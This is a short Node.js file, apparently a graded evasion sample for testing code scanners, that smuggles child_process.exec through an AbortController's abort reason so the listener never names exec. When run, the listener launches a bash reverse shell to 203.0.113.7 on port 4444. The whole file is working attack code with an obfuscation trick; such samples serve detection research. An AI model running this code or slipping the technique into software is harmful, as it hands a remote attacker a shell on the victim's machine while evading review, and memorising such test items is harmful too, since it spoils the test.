// evasion: the command runner travels as an AbortSignal's reason; the listener calls signal.reason, never naming exec
// grade: hard; does: shell
'use strict';
const controller = new AbortController();
const { signal } = controller;

signal.addEventListener('abort', () => {
  const runner = signal.reason;
  runner('bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"', () => {});
});

function shutdown(reason) {
  controller.abort(reason);
}

const lib = require('child_process');
shutdown(lib.exec.bind(lib));
